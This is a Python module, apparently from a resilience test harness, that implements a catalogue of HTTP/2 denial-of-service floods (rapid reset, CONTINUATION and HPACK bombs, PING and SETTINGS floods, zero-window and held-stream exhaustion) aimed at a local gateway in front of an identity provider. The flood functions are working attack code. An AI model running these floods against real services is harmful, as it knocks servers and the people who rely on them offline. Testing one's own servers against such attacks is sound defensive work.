"""HTTP/2 floods (CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316, CVE-2025-8671 and their kin)."""

import struct
import time

import gate as gates
import h2
from harness import watched

FORM = [("content-type", "application/x-www-form-urlencoded")]


def repeated(make, reads=True, **first):
    """An attack that sends what `make(connection)` returns as fast as the gate takes it, on new connections for ever."""

    def attack(gate, seconds):
        end, sent = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            connection = h2.Connection(gate.port, **first)
            while time.monotonic() < end:
                data, count = make(connection)
                if not connection.send(data):
                    break
                sent += count
                if reads:
                    connection.read()
            connection.close()
            time.sleep(0.005)
        return sent

    return attack


def each(frame, count=500, reads=True, **first):
    return repeated(lambda _: (frame * count, count), reads, **first)


def opened(frame, count=500, path=gates.TOKEN, reads=True):
    """Frames on a stream whose request is not complete."""

    def make(connection):
        if connection.stream == 1:
            head, _ = connection.headers(h2.fields("POST", path, FORM), end=False)
            return head, 1
        return frame(1) * count, count

    return repeated(make, reads)


def rapid_reset(connection):
    out = b""
    for _ in range(50):
        head, stream = connection.headers(h2.fields(path="/realms/corp/hold"))
        out += head + h2.frame(h2.RESET, stream=stream, payload=struct.pack(">I", 8))
    return out, 50


def rapid_reset_of_exchanges(connection):
    out, body = b"", gates.encode(gates.exchange_form(gates.subject_token()))
    for _ in range(20):
        head, stream = connection.headers(h2.fields("POST", gates.TOKEN, FORM), end=False)
        out += head + h2.frame(h2.DATA, h2.END_STREAM, stream, body)
        out += h2.frame(h2.RESET, stream=stream, payload=struct.pack(">I", 8))
    return out, 20


def paced_reset(connection):
    """One at a time, so that no limit on resets that wait is reached; each goes to the identity provider."""
    head, stream = connection.headers(h2.fields(path="/realms/corp/hold"))
    connection.send(head)
    time.sleep(0.001)
    return h2.frame(h2.RESET, stream=stream, payload=struct.pack(">I", 8)), 1


def made_you_reset(connection):
    """Requests that make the server reset the stream itself."""
    out = b""
    for number in range(50):
        head, stream = connection.headers(h2.fields(path="/realms/corp/hold"))
        bad = [
            h2.frame(h2.WINDOW, stream=stream, payload=struct.pack(">I", 0)),
            h2.frame(h2.DATA, 0, stream, b"late"),
            h2.frame(h2.WINDOW, stream=stream, payload=struct.pack(">I", 0x7FFFFFFF)),
            h2.frame(h2.PRIORITY, stream=stream, payload=struct.pack(">IB", stream, 1)),
        ][number % 4]
        out += head + bad
    return out, 50


def continuation(connection):
    if connection.stream == 1:
        connection.stream = 3
        return h2.frame(h2.HEADERS, 0, 1, h2.fields()), 1
    block = b"".join(h2.literal(f"x-{number}", "b" * 100) for number in range(100))
    return h2.frame(h2.CONTINUATION, 0, 1, block), 1


def empty_continuation(connection):
    if connection.stream == 1:
        connection.stream = 3
        return h2.frame(h2.HEADERS, 0, 1, h2.fields()), 1
    return h2.frame(h2.CONTINUATION, 0, 1) * 500, 500


def hpack_bomb(connection):
    """A large entry of the dynamic table, named by one byte thousands of times."""
    block = (
        h2.fields(path="/realms/corp/hold") + h2.literal("x-a", "b" * 4000, indexed=True) + b"\xbe" * 16000
    )
    head, _ = connection.headers(block)
    return head, 1


def hpack_cookies(connection):
    block = h2.fields(path="/realms/corp/hold") + h2.literal("cookie", "a=b", indexed=True) + b"\xbe" * 16000
    head, _ = connection.headers(block)
    return head, 1


def hpack_sizes(connection):
    head, _ = connection.headers(b"\x3f\xe1\x1f\x20" * 4000 + h2.fields())
    return head, 1


def hpack_huge_integer(connection):
    head, _ = connection.headers(b"\x7f" + b"\xff" * 60 + b"\x01")
    return head, 1


def garbage(connection):
    return bytes(range(256)) * 64, 1


def unknown_frames(connection):
    return h2.frame(0xEE, 0xFF, 7, b"x" * 100) * 200, 200


def zero_windows(gate, seconds):
    """Large answers that nobody takes: stream windows of zero, then small ones that are never refilled."""
    held = []
    for window in (0, 0, 1, 65535):
        connection = h2.Connection(gate.port, window=window)
        connection.send(
            b"".join(connection.headers(h2.fields(path="/realms/corp/big"))[0] for _ in range(100))
        )
        held.append(connection)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.1)
        for connection in held:
            connection.read(most=1 << 16)
    return 400


def unread(gate, seconds):
    """Wide windows, and nobody reads the socket."""
    held = []
    for _ in range(8):
        connection = h2.Connection(gate.port, window=0x7FFFFFFF)
        connection.send(h2.frame(h2.WINDOW, payload=struct.pack(">I", 0x7FFF0000 - 65535)))
        connection.send(
            b"".join(connection.headers(h2.fields(path="/realms/corp/big"))[0] for _ in range(100))
        )
        held.append(connection)
    time.sleep(seconds)
    return 800


def open_streams(gate, seconds):
    """As many streams as the gate allows, and more, on requests that the identity provider does not answer."""
    held, sent = [], 0
    for _ in range(10):
        connection = h2.Connection(gate.port)
        for _ in range(20):
            connection.send(
                b"".join(connection.headers(h2.fields(path="/realms/corp/hold"))[0] for _ in range(50))
            )
            sent += 50
            connection.read()
        held.append(connection)
    time.sleep(seconds)
    return sent


def unfinished_forms(gate, seconds):
    """Three connections, 128 forms each, each a byte short of 1 MiB."""
    held = []
    for _ in range(3):
        connection = h2.Connection(gate.port, timeout=1)
        streams = []
        for _ in range(128):
            more = [*FORM, ("content-length", str(1 << 20))]
            head, stream = connection.headers(h2.fields("POST", gates.TOKEN, more), end=False)
            connection.send(head)
            streams.append(stream)
        held.append((connection, streams, {stream: (1 << 20) - 1 for stream in streams}))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        busy = False
        for connection, streams, left in held:
            # The windows that the gate gives are ignored: what does not fit is its to refuse.
            for _, _, _, _ in connection.read():
                pass
            for stream in streams:
                if left[stream] and connection.open:
                    size = min(left[stream], 16384)
                    left[stream] -= size
                    busy = connection.send(h2.frame(h2.DATA, 0, stream, b"a" * size)) or busy
        if not busy:
            time.sleep(0.05)
    return 3 * 128


def large_heads(gate, seconds):
    """Heads as large as is allowed, on as many streams as are allowed, which nobody answers."""
    more = [(f"x-{number}", "h" * 2000) for number in range(30)]
    held = []
    for _ in range(6):
        connection = h2.Connection(gate.port, timeout=1)
        for _ in range(128):
            connection.send(connection.headers(h2.fields(path="/realms/corp/hold", more=more))[0])
            connection.read()
        held.append(connection)
    time.sleep(seconds)
    return 6 * 128


CASES = {
    "rapid reset": repeated(rapid_reset),
    "rapid reset of exchanges": repeated(rapid_reset_of_exchanges),
    "paced reset": repeated(paced_reset),
    "made you reset": repeated(made_you_reset),
    "CONTINUATION": repeated(continuation),
    "empty CONTINUATION": repeated(empty_continuation),
    "SETTINGS": each(h2.settings(window=65535)),
    "SETTINGS, nobody reads": each(h2.settings(window=65535), reads=False),
    "SETTINGS, windows to and fro": each(h2.settings(window=0) + h2.settings(window=65535), 250),
    "PING": each(h2.frame(h2.PING, payload=b"12345678")),
    "PING, nobody reads": each(h2.frame(h2.PING, payload=b"12345678"), reads=False),
    "PRIORITY": each(h2.frame(h2.PRIORITY, stream=3, payload=b"\0\0\0\1\x10")),
    "window updates": each(h2.frame(h2.WINDOW, payload=struct.pack(">I", 1))),
    "window updates of a stream": opened(
        lambda s: h2.frame(h2.WINDOW, stream=s, payload=struct.pack(">I", 1))
    ),
    "empty DATA": opened(lambda s: h2.frame(h2.DATA, stream=s)),
    "padded empty DATA": opened(lambda s: h2.frame(h2.DATA, 8, s, b"\xff" + b"\0" * 255), 100),
    "DATA of one byte": opened(lambda s: h2.frame(h2.DATA, stream=s, payload=b"a")),
    "empty DATA, passed on": opened(lambda s: h2.frame(h2.DATA, stream=s), path="/realms/corp/account"),
    "HPACK: one large entry": repeated(hpack_bomb),
    "HPACK: cookies": repeated(hpack_cookies),
    "HPACK: table sizes": repeated(hpack_sizes),
    "HPACK: a huge integer": repeated(hpack_huge_integer),
    "garbage": repeated(garbage),
    "unknown frames": repeated(unknown_frames),
    "zero windows": zero_windows,
    "nobody reads": unread,
    "open streams": open_streams,
    "unfinished forms": unfinished_forms,
    "large heads": large_heads,
}
#: In the smoke run, with one thread.
SMOKE = ["rapid reset", "CONTINUATION", "SETTINGS, nobody reads", "PING", "empty DATA", "HPACK: one large entry",
         "zero windows", "unfinished forms"]  # fmt: skip


def run(world):
    with world.klass("HTTP/2 floods") as row:
        cases = {name: CASES[name] for name in SMOKE} if world.smoke else CASES
        watched(world, row, cases, 1.5 if world.smoke else 2.5)
